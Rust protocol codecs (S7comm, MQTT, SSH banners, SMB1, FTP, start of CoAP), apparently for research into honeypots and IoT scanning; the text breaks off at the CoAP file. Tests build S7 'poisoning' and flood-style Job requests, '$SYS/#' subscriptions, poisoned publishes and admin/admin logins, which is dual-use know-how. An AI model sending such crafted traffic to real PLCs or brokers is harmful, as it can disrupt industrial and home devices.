//! attacks "possibly targeting the ICSA-16-299-01 vulnerability … performed
//! by flooding the requests with PDU type 1, that results in spawning of a
//! job request in the device" (§5.1.4). S7 is also the dominant third stage
//! of the multistage attacks in Fig. 9. We implement the TPKT + COTP framing
//! and the S7 header with its Job (1) / Ack-Data (3) PDU types and the
//! function codes the traffic exercised.

use crate::error::WireError;

/// S7 PDU types.
pub mod pdu_type {
    /// Job request — the ICSA-16-299-01 flood uses these.
    pub const JOB: u8 = 0x01;
    pub const ACK: u8 = 0x02;
    pub const ACK_DATA: u8 = 0x03;
    pub const USERDATA: u8 = 0x07;
}

/// S7 function codes.
pub mod function {
    pub const SETUP_COMMUNICATION: u8 = 0xF0;
    pub const READ_VAR: u8 = 0x04;
    pub const WRITE_VAR: u8 = 0x05;
}

/// An S7comm message (already unwrapped from TPKT/COTP).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct S7Message {
    pub pdu_type: u8,
    pub pdu_ref: u16,
    /// Parameter bytes; first byte is conventionally the function code.
    pub parameters: Vec<u8>,
    pub data: Vec<u8>,
}

impl S7Message {
    /// A Job request for the given function.
    pub fn job(pdu_ref: u16, function: u8, args: &[u8]) -> S7Message {
        let mut parameters = vec![function];
        parameters.extend_from_slice(args);
        S7Message {
            pdu_type: pdu_type::JOB,
            pdu_ref,
            parameters,
            data: Vec::new(),
        }
    }

    pub fn function(&self) -> Option<u8> {
        self.parameters.first().copied()
    }

    /// Encode with full TPKT (RFC 1006) + COTP DT framing.
    pub fn encode(&self) -> Vec<u8> {
        // S7 header: protocol id 0x32, pdu type, reserved, pdu ref,
        // parameter length, data length.
        let mut s7 = vec![0x32, self.pdu_type, 0, 0];
        s7.extend_from_slice(&self.pdu_ref.to_be_bytes());
        s7.extend_from_slice(&(self.parameters.len() as u16).to_be_bytes());
        s7.extend_from_slice(&(self.data.len() as u16).to_be_bytes());
        s7.extend_from_slice(&self.parameters);
        s7.extend_from_slice(&self.data);
        // COTP DT header: length 2, DT code 0xF0, EOT bit set.
        let cotp = [0x02, 0xF0, 0x80];
        // TPKT: version 3, reserved, total length.
        let total = 4 + cotp.len() + s7.len();
        let mut out = vec![0x03, 0x00];
        out.extend_from_slice(&(total as u16).to_be_bytes());
        out.extend_from_slice(&cotp);
        out.extend_from_slice(&s7);
        out
    }

    /// Decode from TPKT framing.
    pub fn decode(bytes: &[u8]) -> Result<S7Message, WireError> {
        if bytes.len() < 4 {
            return Err(WireError::truncated("tpkt header", 4 - bytes.len()));
        }
        if bytes[0] != 0x03 {
            return Err(WireError::BadMagic { what: "tpkt" });
        }
        let total = u16::from_be_bytes([bytes[2], bytes[3]]) as usize;
        if bytes.len() < total {
            return Err(WireError::truncated("tpkt body", total - bytes.len()));
        }
        // COTP: first byte is header length (excluding itself).
        let cotp_len = bytes[4] as usize + 1;
        let s7_start = 4 + cotp_len;
        if total < s7_start + 10 {
            return Err(WireError::truncated("s7 header", s7_start + 10 - total));
        }
        let s7 = &bytes[s7_start..total];
        if s7[0] != 0x32 {
            return Err(WireError::BadMagic { what: "s7comm" });
        }
        let pdu_type = s7[1];
        let pdu_ref = u16::from_be_bytes([s7[4], s7[5]]);
        let param_len = u16::from_be_bytes([s7[6], s7[7]]) as usize;
        let data_len = u16::from_be_bytes([s7[8], s7[9]]) as usize;
        if s7.len() < 10 + param_len + data_len {
            return Err(WireError::truncated(
                "s7 body",
                10 + param_len + data_len - s7.len(),
            ));
        }
        Ok(S7Message {
            pdu_type,
            pdu_ref,
            parameters: s7[10..10 + param_len].to_vec(),
            data: s7[10 + param_len..10 + param_len + data_len].to_vec(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn setup_communication_roundtrip() {
        let m = S7Message::job(1, function::SETUP_COMMUNICATION, &[0, 1, 0, 1, 0x03, 0xC0]);
        let wire = m.encode();
        assert_eq!(wire[0], 0x03); // TPKT version
        let back = S7Message::decode(&wire).unwrap();
        assert_eq!(back, m);
        assert_eq!(back.function(), Some(function::SETUP_COMMUNICATION));
        assert_eq!(back.pdu_type, pdu_type::JOB);
    }

    #[test]
    fn write_var_poisoning() {
        let m = S7Message {
            pdu_type: pdu_type::JOB,
            pdu_ref: 42,
            parameters: vec![function::WRITE_VAR, 0x01],
            data: vec![0xDE, 0xAD, 0xBE, 0xEF],
        };
        let back = S7Message::decode(&m.encode()).unwrap();
        assert_eq!(back.data, vec![0xDE, 0xAD, 0xBE, 0xEF]);
    }

    #[test]
    fn icsa_flood_pdu_is_a_job() {
        // The DoS flood consists of bare Job requests.
        let m = S7Message::job(9999, function::READ_VAR, &[]);
        assert_eq!(S7Message::decode(&m.encode()).unwrap().pdu_type, pdu_type::JOB);
    }

    #[test]
    fn rejects_garbage() {
        assert!(S7Message::decode(&[]).is_err());
        assert!(S7Message::decode(&[0x05, 0, 0, 4]).is_err()); // bad TPKT version
        let wire = S7Message::job(1, function::READ_VAR, &[]).encode();
        assert!(S7Message::decode(&wire[..wire.len() - 1]).is_err());
        // Valid TPKT/COTP but wrong S7 protocol id.
        let mut wire2 = wire.clone();
        wire2[7] = 0x99;
        assert!(matches!(
            S7Message::decode(&wire2),
            Err(WireError::BadMagic { what: "s7comm" })
        ));
    }
}
