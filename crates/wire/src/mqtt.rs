//! MQTT 3.1.1 — packet codec.
//!
//! The paper scans port 1883 and flags brokers that answer a CONNECT (with no
//! credentials) with CONNACK return code 0 — "Connection Accepted with no
//! auth" (Table 2). Attackers then SUBSCRIBE to `$SYS/#` or PUBLISH poisoned
//! data into topics (§5.1.2). This module implements the packet subset those
//! behaviours need: CONNECT, CONNACK, SUBSCRIBE, SUBACK, PUBLISH, PINGREQ,
//! PINGRESP, DISCONNECT, with the standard variable-length "remaining length"
//! encoding.

use crate::error::WireError;

/// Sanity cap on the remaining-length field (the spec allows ~256 MB; no
/// packet in this study is near that).
const MAX_REMAINING: usize = 1 << 20;

/// CONNACK return codes (MQTT 3.1.1 §3.2.2.3).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ConnectReturnCode {
    /// 0 — connection accepted. On an unauthenticated CONNECT this is the
    /// paper's misconfiguration indicator.
    Accepted,
    /// 1 — unacceptable protocol version.
    BadProtocolVersion,
    /// 2 — identifier rejected.
    IdentifierRejected,
    /// 3 — server unavailable.
    ServerUnavailable,
    /// 4 — bad user name or password.
    BadCredentials,
    /// 5 — not authorized.
    NotAuthorized,
}

impl ConnectReturnCode {
    pub const fn code(self) -> u8 {
        match self {
            ConnectReturnCode::Accepted => 0,
            ConnectReturnCode::BadProtocolVersion => 1,
            ConnectReturnCode::IdentifierRejected => 2,
            ConnectReturnCode::ServerUnavailable => 3,
            ConnectReturnCode::BadCredentials => 4,
            ConnectReturnCode::NotAuthorized => 5,
        }
    }

    pub const fn from_code(b: u8) -> Option<Self> {
        match b {
            0 => Some(ConnectReturnCode::Accepted),
            1 => Some(ConnectReturnCode::BadProtocolVersion),
            2 => Some(ConnectReturnCode::IdentifierRejected),
            3 => Some(ConnectReturnCode::ServerUnavailable),
            4 => Some(ConnectReturnCode::BadCredentials),
            5 => Some(ConnectReturnCode::NotAuthorized),
            _ => None,
        }
    }
}

/// An MQTT control packet (3.1.1 subset).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Packet {
    Connect {
        client_id: String,
        username: Option<String>,
        password: Option<Vec<u8>>,
        keep_alive: u16,
        clean_session: bool,
    },
    ConnAck {
        session_present: bool,
        return_code: ConnectReturnCode,
    },
    Subscribe {
        packet_id: u16,
        /// (topic filter, requested QoS) pairs.
        topics: Vec<(String, u8)>,
    },
    SubAck {
        packet_id: u16,
        /// Granted QoS per topic, 0x80 = failure.
        return_codes: Vec<u8>,
    },
    Publish {
        topic: String,
        /// Present when QoS > 0.
        packet_id: Option<u16>,
        payload: Vec<u8>,
        qos: u8,
        retain: bool,
    },
    PingReq,
    PingResp,
    Disconnect,
}

fn put_u16(out: &mut Vec<u8>, v: u16) {
    out.extend_from_slice(&v.to_be_bytes());
}

fn put_str(out: &mut Vec<u8>, s: &str) {
    put_u16(out, s.len() as u16);
    out.extend_from_slice(s.as_bytes());
}

fn put_bytes(out: &mut Vec<u8>, b: &[u8]) {
    put_u16(out, b.len() as u16);
    out.extend_from_slice(b);
}

/// Encode the MQTT variable-length integer.
pub fn encode_remaining_length(mut len: usize, out: &mut Vec<u8>) {
    loop {
        let mut byte = (len % 128) as u8;
        len /= 128;
        if len > 0 {
            byte |= 0x80;
        }
        out.push(byte);
        if len == 0 {
            break;
        }
    }
}

/// Decode the variable-length integer; returns (value, bytes consumed).
pub fn decode_remaining_length(bytes: &[u8]) -> Result<(usize, usize), WireError> {
    let mut value = 0usize;
    let mut shift = 0u32;
    for (i, &b) in bytes.iter().enumerate().take(4) {
        value |= ((b & 0x7F) as usize) << shift;
        if b & 0x80 == 0 {
            if value > MAX_REMAINING {
                return Err(WireError::TooLarge {
                    what: "mqtt remaining length",
                    len: value,
                });
            }
            return Ok((value, i + 1));
        }
        shift += 7;
    }
    if bytes.len() >= 4 {
        Err(WireError::invalid(
            "mqtt remaining length",
            "continuation bit set on 4th byte",
        ))
    } else {
        Err(WireError::truncated("mqtt remaining length", 1))
    }
}

struct Reader<'a> {
    buf: &'a [u8],
    pos: usize,
}

impl<'a> Reader<'a> {
    fn new(buf: &'a [u8]) -> Self {
        Reader { buf, pos: 0 }
    }
    fn remaining(&self) -> usize {
        self.buf.len() - self.pos
    }
    fn u8(&mut self, what: &'static str) -> Result<u8, WireError> {
        if self.remaining() < 1 {
            return Err(WireError::truncated(what, 1));
        }
        let b = self.buf[self.pos];
        self.pos += 1;
        Ok(b)
    }
    fn u16(&mut self, what: &'static str) -> Result<u16, WireError> {
        if self.remaining() < 2 {
            return Err(WireError::truncated(what, 2 - self.remaining()));
        }
        let v = u16::from_be_bytes([self.buf[self.pos], self.buf[self.pos + 1]]);
        self.pos += 2;
        Ok(v)
    }
    fn take(&mut self, n: usize, what: &'static str) -> Result<&'a [u8], WireError> {
        if self.remaining() < n {
            return Err(WireError::truncated(what, n - self.remaining()));
        }
        let s = &self.buf[self.pos..self.pos + n];
        self.pos += n;
        Ok(s)
    }
    fn lp_bytes(&mut self, what: &'static str) -> Result<&'a [u8], WireError> {
        let len = self.u16(what)? as usize;
        self.take(len, what)
    }
    fn lp_str(&mut self, what: &'static str) -> Result<String, WireError> {
        let b = self.lp_bytes(what)?;
        String::from_utf8(b.to_vec()).map_err(|_| WireError::invalid(what, "not UTF-8"))
    }
    fn rest(&mut self) -> &'a [u8] {
        let s = &self.buf[self.pos..];
        self.pos = self.buf.len();
        s
    }
}

impl Packet {
    /// Encode to wire bytes.
    pub fn encode(&self) -> Vec<u8> {
        let (first, body) = match self {
            Packet::Connect {
                client_id,
                username,
                password,
                keep_alive,
                clean_session,
            } => {
                let mut b = Vec::new();
                put_str(&mut b, "MQTT");
                b.push(4); // protocol level 4 = 3.1.1
                let mut flags = 0u8;
                if *clean_session {
                    flags |= 0x02;
                }
                if username.is_some() {
                    flags |= 0x80;
                }
                if password.is_some() {
                    flags |= 0x40;
                }
                b.push(flags);
                put_u16(&mut b, *keep_alive);
                put_str(&mut b, client_id);
                if let Some(u) = username {
                    put_str(&mut b, u);
                }
                if let Some(p) = password {
                    put_bytes(&mut b, p);
                }
                (0x10, b)
            }
            Packet::ConnAck {
                session_present,
                return_code,
            } => (
                0x20,
                vec![u8::from(*session_present), return_code.code()],
            ),
            Packet::Subscribe { packet_id, topics } => {
                let mut b = Vec::new();
                put_u16(&mut b, *packet_id);
                for (t, qos) in topics {
                    put_str(&mut b, t);
                    b.push(*qos);
                }
                (0x82, b) // reserved flags 0b0010 are mandatory
            }
            Packet::SubAck {
                packet_id,
                return_codes,
            } => {
                let mut b = Vec::new();
                put_u16(&mut b, *packet_id);
                b.extend_from_slice(return_codes);
                (0x90, b)
            }
            Packet::Publish {
                topic,
                packet_id,
                payload,
                qos,
                retain,
            } => {
                let mut b = Vec::new();
                put_str(&mut b, topic);
                if *qos > 0 {
                    put_u16(&mut b, packet_id.unwrap_or(0));
                }
                b.extend_from_slice(payload);
                let first = 0x30 | (qos << 1) | u8::from(*retain);
                (first, b)
            }
            Packet::PingReq => (0xC0, Vec::new()),
            Packet::PingResp => (0xD0, Vec::new()),
            Packet::Disconnect => (0xE0, Vec::new()),
        };
        let mut out = vec![first];
        encode_remaining_length(body.len(), &mut out);
        out.extend_from_slice(&body);
        out
    }

    /// Decode one packet; returns the packet and total bytes consumed.
    pub fn decode(bytes: &[u8]) -> Result<(Packet, usize), WireError> {
        if bytes.is_empty() {
            return Err(WireError::truncated("mqtt fixed header", 1));
        }
        let first = bytes[0];
        let (rem_len, rl_bytes) = decode_remaining_length(&bytes[1..])?;
        let total = 1 + rl_bytes + rem_len;
        if bytes.len() < total {
            return Err(WireError::truncated("mqtt body", total - bytes.len()));
        }
        let mut r = Reader::new(&bytes[1 + rl_bytes..total]);
        let packet = match first >> 4 {
            1 => {
                let proto = r.lp_str("mqtt protocol name")?;
                if proto != "MQTT" && proto != "MQIsdp" {
                    return Err(WireError::invalid("mqtt protocol name", proto));
                }
                let _level = r.u8("mqtt protocol level")?;
                let flags = r.u8("mqtt connect flags")?;
                let keep_alive = r.u16("mqtt keep alive")?;
                let client_id = r.lp_str("mqtt client id")?;
                let username = if flags & 0x80 != 0 {
                    Some(r.lp_str("mqtt username")?)
                } else {
                    None
                };
                let password = if flags & 0x40 != 0 {
                    Some(r.lp_bytes("mqtt password")?.to_vec())
                } else {
                    None
                };
                Packet::Connect {
                    client_id,
                    username,
                    password,
                    keep_alive,
                    clean_session: flags & 0x02 != 0,
                }
            }
            2 => {
                let ack_flags = r.u8("mqtt connack flags")?;
                let code = r.u8("mqtt connack code")?;
                Packet::ConnAck {
                    session_present: ack_flags & 1 != 0,
                    return_code: ConnectReturnCode::from_code(code).ok_or_else(|| {
                        WireError::invalid("mqtt connack code", code.to_string())
                    })?,
                }
            }
            8 => {
                let packet_id = r.u16("mqtt subscribe id")?;
                let mut topics = Vec::new();
                while r.remaining() > 0 {
                    let t = r.lp_str("mqtt topic filter")?;
                    let qos = r.u8("mqtt requested qos")?;
                    topics.push((t, qos));
                }
                Packet::Subscribe { packet_id, topics }
            }
            9 => {
                let packet_id = r.u16("mqtt suback id")?;
                Packet::SubAck {
                    packet_id,
                    return_codes: r.rest().to_vec(),
                }
            }
            3 => {
                let qos = (first >> 1) & 0x03;
                if qos == 3 {
                    return Err(WireError::invalid("mqtt publish qos", "3"));
                }
                let retain = first & 0x01 != 0;
                let topic = r.lp_str("mqtt publish topic")?;
                let packet_id = if qos > 0 {
                    Some(r.u16("mqtt publish id")?)
                } else {
                    None
                };
                Packet::Publish {
                    topic,
                    packet_id,
                    payload: r.rest().to_vec(),
                    qos,
                    retain,
                }
            }
            12 => Packet::PingReq,
            13 => Packet::PingResp,
            14 => Packet::Disconnect,
            t => {
                return Err(WireError::invalid("mqtt packet type", t.to_string()));
            }
        };
        Ok((packet, total))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn golden_connect() {
        let p = Packet::Connect {
            client_id: "zgrab".into(),
            username: None,
            password: None,
            keep_alive: 60,
            clean_session: true,
        };
        let wire = p.encode();
        // fixed header, remaining length 17
        assert_eq!(&wire[..2], &[0x10, 17]);
        // protocol name "MQTT" level 4
        assert_eq!(&wire[2..9], &[0, 4, b'M', b'Q', b'T', b'T', 4]);
        assert_eq!(wire[9], 0x02); // clean session only
        let (back, used) = Packet::decode(&wire).unwrap();
        assert_eq!(back, p);
        assert_eq!(used, wire.len());
    }

    #[test]
    fn golden_connack_accepted() {
        // The paper's misconfiguration indicator: "MQTT Connection Code: 0".
        let p = Packet::ConnAck {
            session_present: false,
            return_code: ConnectReturnCode::Accepted,
        };
        assert_eq!(p.encode(), vec![0x20, 2, 0, 0]);
    }

    #[test]
    fn connack_not_authorized() {
        let p = Packet::ConnAck {
            session_present: false,
            return_code: ConnectReturnCode::NotAuthorized,
        };
        let wire = p.encode();
        assert_eq!(wire, vec![0x20, 2, 0, 5]);
        let (back, _) = Packet::decode(&wire).unwrap();
        assert_eq!(back, p);
    }

    #[test]
    fn subscribe_sys_topics() {
        let p = Packet::Subscribe {
            packet_id: 1,
            topics: vec![("$SYS/#".into(), 0), ("#".into(), 0)],
        };
        let (back, _) = Packet::decode(&p.encode()).unwrap();
        assert_eq!(back, p);
    }

    #[test]
    fn publish_roundtrip_qos0_and_1() {
        for (qos, packet_id) in [(0u8, None), (1u8, Some(77))] {
            let p = Packet::Publish {
                topic: "homeassistant/light/state".into(),
                packet_id,
                payload: b"poisoned".to_vec(),
                qos,
                retain: qos == 1,
            };
            let (back, _) = Packet::decode(&p.encode()).unwrap();
            assert_eq!(back, p);
        }
    }

    #[test]
    fn credentials_roundtrip() {
        let p = Packet::Connect {
            client_id: "bot".into(),
            username: Some("admin".into()),
            password: Some(b"admin".to_vec()),
            keep_alive: 30,
            clean_session: false,
        };
        let (back, _) = Packet::decode(&p.encode()).unwrap();
        assert_eq!(back, p);
    }

    #[test]
    fn control_packets() {
        for p in [Packet::PingReq, Packet::PingResp, Packet::Disconnect] {
            let wire = p.encode();
            assert_eq!(wire.len(), 2);
            let (back, _) = Packet::decode(&wire).unwrap();
            assert_eq!(back, p);
        }
    }

    #[test]
    fn remaining_length_multi_byte() {
        let mut out = Vec::new();
        encode_remaining_length(321, &mut out);
        assert_eq!(out, vec![0xC1, 0x02]); // 321 = 0x141 -> 0b1100_0001, 0b0000_0010
        assert_eq!(decode_remaining_length(&out).unwrap(), (321, 2));
    }

    #[test]
    fn remaining_length_limits() {
        assert!(matches!(
            decode_remaining_length(&[0x80, 0x80, 0x80, 0x80]),
            Err(WireError::Invalid { .. })
        ));
        assert!(matches!(
            decode_remaining_length(&[0x80]),
            Err(WireError::Truncated { .. })
        ));
        // Over the sanity cap.
        let mut out = Vec::new();
        encode_remaining_length(MAX_REMAINING + 1, &mut out);
        assert!(matches!(
            decode_remaining_length(&out),
            Err(WireError::TooLarge { .. })
        ));
    }

    #[test]
    fn decode_rejects_garbage() {
        assert!(Packet::decode(&[]).is_err());
        assert!(Packet::decode(&[0x00, 0x00]).is_err()); // type 0 is reserved
        assert!(Packet::decode(&[0x20, 2, 0, 99]).is_err()); // unknown connack code
    }
}
