//! SSH identification strings (RFC 4253 §4.2).
//!
//! SSH banner grabbing only needs the identification exchange: both sides
//! send `SSH-protoversion-softwareversion[ SP comments]\r\n` before any
//! binary packet. The Kippo honeypot betrays itself with the frozen string
//! `SSH-2.0-OpenSSH_5.1p1 Debian-5` (Table 6); Cowrie and HosTaGe simulate
//! SSH servers whose brute-force traffic dominates §5.1.1.

use crate::error::WireError;

/// A parsed SSH identification line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Identification {
    /// Protocol version, normally `2.0` (or `1.99` for compat servers).
    pub proto_version: String,
    /// Software version, e.g. `OpenSSH_5.1p1`.
    pub software: String,
    /// Optional comment after the first space, e.g. `Debian-5`.
    pub comments: Option<String>,
}

impl Identification {
    pub fn new(software: &str) -> Identification {
        Identification {
            proto_version: "2.0".into(),
            software: software.into(),
            comments: None,
        }
    }

    pub fn with_comments(software: &str, comments: &str) -> Identification {
        Identification {
            proto_version: "2.0".into(),
            software: software.into(),
            comments: Some(comments.into()),
        }
    }

    /// Render the wire form including CRLF.
    pub fn render(&self) -> String {
        match &self.comments {
            Some(c) => format!("SSH-{}-{} {}\r\n", self.proto_version, self.software, c),
            None => format!("SSH-{}-{}\r\n", self.proto_version, self.software),
        }
    }

    /// Parse an identification line (with or without trailing CRLF).
    pub fn parse(line: &str) -> Result<Identification, WireError> {
        let line = line.trim_end_matches(['\r', '\n']);
        let rest = line
            .strip_prefix("SSH-")
            .ok_or(WireError::BadMagic { what: "ssh identification" })?;
        let (proto, rest) = rest
            .split_once('-')
            .ok_or_else(|| WireError::invalid("ssh identification", "missing software version"))?;
        if rest.is_empty() {
            return Err(WireError::invalid("ssh identification", "empty software version"));
        }
        let (software, comments) = match rest.split_once(' ') {
            Some((s, c)) => (s.to_string(), Some(c.to_string())),
            None => (rest.to_string(), None),
        };
        Ok(Identification {
            proto_version: proto.to_string(),
            software,
            comments,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kippo_banner_roundtrip() {
        // Table 6: Kippo's static banner.
        let id = Identification::with_comments("OpenSSH_5.1p1", "Debian-5");
        assert_eq!(id.render(), "SSH-2.0-OpenSSH_5.1p1 Debian-5\r\n");
        assert_eq!(Identification::parse(&id.render()).unwrap(), id);
    }

    #[test]
    fn plain_banner() {
        let id = Identification::parse("SSH-2.0-dropbear_2019.78").unwrap();
        assert_eq!(id.software, "dropbear_2019.78");
        assert_eq!(id.proto_version, "2.0");
        assert!(id.comments.is_none());
    }

    #[test]
    fn rejects_non_ssh() {
        assert!(Identification::parse("HTTP/1.1 200 OK").is_err());
        assert!(Identification::parse("SSH-2.0").is_err());
        assert!(Identification::parse("SSH-2.0-").is_err());
    }
}
