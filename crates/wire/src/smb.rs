//! SMB1 — header and negotiate codec.
//!
//! The SMB protocol (simulated by HosTaGe and Dionaea) was "largely targeted
//! with the EternalBlue, EternalRomance and EternalChampion exploits" carrying
//! WannaCry-family payloads (§5.1.5), and SMB attack sources show the highest
//! VirusTotal malicious ratio in Fig. 6. We implement the SMB1 header plus
//! Negotiate request/response — enough to carry dialect lists, detect the
//! exploit signatures (Trans2 with the DOUBLEPULSAR-style anomalies), and
//! transport dropper payloads.

use crate::error::WireError;

/// SMB1 magic: `\xFFSMB`.
pub const MAGIC: [u8; 4] = [0xFF, b'S', b'M', b'B'];

/// SMB1 command codes (subset).
pub mod command {
    pub const NEGOTIATE: u8 = 0x72;
    pub const SESSION_SETUP: u8 = 0x73;
    pub const TREE_CONNECT: u8 = 0x75;
    /// Trans2 — the EternalBlue exploit vector.
    pub const TRANS2: u8 = 0x32;
}

/// A simplified SMB1 message: fixed header + raw data block.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SmbMessage {
    pub command: u8,
    /// NT status (0 = success).
    pub status: u32,
    /// FLAGS2 field; bit 15 = unicode.
    pub flags2: u16,
    /// Multiplex id, echoed in responses.
    pub mid: u16,
    /// Command-specific bytes (dialects, exploit payloads…).
    pub data: Vec<u8>,
}

impl SmbMessage {
    /// The classic Negotiate request advertising old dialects — what scanners
    /// and worms alike open with.
    pub fn negotiate_request() -> SmbMessage {
        let mut data = Vec::new();
        for dialect in ["PC NETWORK PROGRAM 1.0", "LANMAN1.0", "NT LM 0.12"] {
            data.push(0x02); // dialect buffer format
            data.extend_from_slice(dialect.as_bytes());
            data.push(0);
        }
        SmbMessage {
            command: command::NEGOTIATE,
            status: 0,
            flags2: 0xC853,
            mid: 1,
            data,
        }
    }

    /// Dialects listed in a Negotiate request.
    pub fn dialects(&self) -> Vec<String> {
        let mut out = Vec::new();
        let mut i = 0;
        while i < self.data.len() {
            if self.data[i] != 0x02 {
                break;
            }
            i += 1;
            let start = i;
            while i < self.data.len() && self.data[i] != 0 {
                i += 1;
            }
            out.push(String::from_utf8_lossy(&self.data[start..i]).into_owned());
            i += 1;
        }
        out
    }

    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(32 + self.data.len());
        out.extend_from_slice(&MAGIC);
        out.push(self.command);
        out.extend_from_slice(&self.status.to_le_bytes());
        out.push(0); // flags
        out.extend_from_slice(&self.flags2.to_le_bytes());
        out.extend_from_slice(&[0; 12]); // pid-high, signature, reserved
        out.extend_from_slice(&[0, 0]); // tid
        out.extend_from_slice(&[0, 0]); // pid
        out.extend_from_slice(&[0, 0]); // uid
        out.extend_from_slice(&self.mid.to_le_bytes());
        out.extend_from_slice(&(self.data.len() as u16).to_le_bytes());
        out.extend_from_slice(&self.data);
        out
    }

    pub fn decode(bytes: &[u8]) -> Result<SmbMessage, WireError> {
        if bytes.len() < 34 {
            return Err(WireError::truncated("smb header", 34usize.saturating_sub(bytes.len())));
        }
        if bytes[..4] != MAGIC {
            return Err(WireError::BadMagic { what: "smb" });
        }
        let command = bytes[4];
        let status = u32::from_le_bytes([bytes[5], bytes[6], bytes[7], bytes[8]]);
        let flags2 = u16::from_le_bytes([bytes[10], bytes[11]]);
        let mid = u16::from_le_bytes([bytes[30], bytes[31]]);
        let data_len = u16::from_le_bytes([bytes[32], bytes[33]]) as usize;
        if bytes.len() < 34 + data_len {
            return Err(WireError::truncated("smb data", 34 + data_len - bytes.len()));
        }
        Ok(SmbMessage {
            command,
            status,
            flags2,
            mid,
            data: bytes[34..34 + data_len].to_vec(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn negotiate_roundtrip() {
        let m = SmbMessage::negotiate_request();
        let wire = m.encode();
        assert_eq!(&wire[..4], &MAGIC);
        assert_eq!(wire[4], command::NEGOTIATE);
        let back = SmbMessage::decode(&wire).unwrap();
        assert_eq!(back, m);
        assert_eq!(
            back.dialects(),
            vec!["PC NETWORK PROGRAM 1.0", "LANMAN1.0", "NT LM 0.12"]
        );
    }

    #[test]
    fn trans2_payload_carried() {
        let m = SmbMessage {
            command: command::TRANS2,
            status: 0,
            flags2: 0,
            mid: 65,
            data: b"DOUBLEPULSAR-ish anomaly bytes".to_vec(),
        };
        let back = SmbMessage::decode(&m.encode()).unwrap();
        assert_eq!(back.command, command::TRANS2);
        assert_eq!(back.data, m.data);
    }

    #[test]
    fn rejects_bad_magic_and_truncation() {
        assert!(SmbMessage::decode(b"\x00SMB").is_err());
        let mut wire = SmbMessage::negotiate_request().encode();
        wire[0] = 0xFE; // SMB2 magic — not supported here
        assert!(matches!(
            SmbMessage::decode(&wire),
            Err(WireError::BadMagic { .. })
        ));
        let wire = SmbMessage::negotiate_request().encode();
        assert!(SmbMessage::decode(&wire[..20]).is_err());
        assert!(SmbMessage::decode(&wire[..wire.len() - 1]).is_err());
    }
}
