//! FTP (RFC 959 subset) — command/reply codec.
//!
//! Dionaea simulates FTP; the paper records brute-force logins followed by
//! `STOR` uploads of Mozi and Lokibot droppers (§5.1.5). Replies like
//! `220`/`230`/`530` are all the state machine needs. FTP is also the
//! protocol of the closest prior work (Springall et al.'s anonymous-FTP
//! study), which the paper's methodology section builds on.

use crate::error::WireError;

/// An FTP command line, e.g. `USER admin`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command {
    pub verb: String,
    pub arg: Option<String>,
}

impl Command {
    pub fn new(verb: &str, arg: Option<&str>) -> Command {
        Command {
            verb: verb.to_ascii_uppercase(),
            arg: arg.map(str::to_string),
        }
    }

    pub fn render(&self) -> String {
        match &self.arg {
            Some(a) => format!("{} {}\r\n", self.verb, a),
            None => format!("{}\r\n", self.verb),
        }
    }

    pub fn parse(line: &str) -> Result<Command, WireError> {
        let line = line.trim_end_matches(['\r', '\n']);
        if line.is_empty() {
            return Err(WireError::invalid("ftp command", "empty line"));
        }
        let (verb, arg) = match line.split_once(' ') {
            Some((v, a)) => (v, Some(a.to_string())),
            None => (line, None),
        };
        if verb.is_empty() || !verb.chars().all(|c| c.is_ascii_alphabetic()) {
            return Err(WireError::invalid("ftp command verb", verb.to_string()));
        }
        Ok(Command {
            verb: verb.to_ascii_uppercase(),
            arg,
        })
    }
}

/// An FTP reply: 3-digit code plus text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reply {
    pub code: u16,
    pub text: String,
}

impl Reply {
    pub const SERVICE_READY: u16 = 220;
    pub const LOGGED_IN: u16 = 230;
    pub const NEED_PASSWORD: u16 = 331;
    pub const LOGIN_FAILED: u16 = 530;
    pub const FILE_OK: u16 = 150;
    pub const TRANSFER_COMPLETE: u16 = 226;

    pub fn new(code: u16, text: &str) -> Reply {
        Reply {
            code,
            text: text.into(),
        }
    }

    pub fn render(&self) -> String {
        format!("{} {}\r\n", self.code, self.text)
    }

    pub fn parse(line: &str) -> Result<Reply, WireError> {
        let line = line.trim_end_matches(['\r', '\n']);
        // Take the first three bytes only if they are ASCII digits — `line`
        // may be arbitrary attacker text, including multi-byte UTF-8 whose
        // char boundaries don't fall at index 3.
        let code_str = line
            .get(..3)
            .ok_or(WireError::truncated("ftp reply", 3_usize.saturating_sub(line.len())))?;
        let code: u16 = code_str
            .parse()
            .map_err(|_| WireError::invalid("ftp reply code", code_str.to_string()))?;
        if !(100..600).contains(&code) {
            return Err(WireError::invalid("ftp reply code", code.to_string()));
        }
        let text = line[3..].trim_start_matches([' ', '-']).to_string();
        Ok(Reply { code, text })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_roundtrip() {
        for (verb, arg) in [("USER", Some("admin")), ("PASS", Some("admin")), ("QUIT", None)] {
            let c = Command::new(verb, arg);
            assert_eq!(Command::parse(&c.render()).unwrap(), c);
        }
    }

    #[test]
    fn lowercase_verbs_normalized() {
        assert_eq!(Command::parse("user anonymous").unwrap().verb, "USER");
    }

    #[test]
    fn reply_roundtrip() {
        let r = Reply::new(Reply::SERVICE_READY, "FTP server ready");
        assert_eq!(r.render(), "220 FTP server ready\r\n");
        assert_eq!(Reply::parse(&r.render()).unwrap(), r);
    }

    #[test]
    fn reply_code_classes() {
        assert_eq!(Reply::parse("230 Login successful.").unwrap().code, 230);
        assert_eq!(Reply::parse("530 Login incorrect.").unwrap().code, 530);
    }

    #[test]
    fn rejects_garbage() {
        assert!(Command::parse("").is_err());
        assert!(Command::parse("123 nope").is_err());
        assert!(Reply::parse("xx").is_err());
        assert!(Reply::parse("999 out of range").is_err());
        assert!(Reply::parse("ab3 nope").is_err());
    }
}
