//! CoAP (RFC 7252) — message codec and CoRE link format.
//!
//! The paper's UDP scan sends a CoAP GET for `/.well-known/core` to port 5683
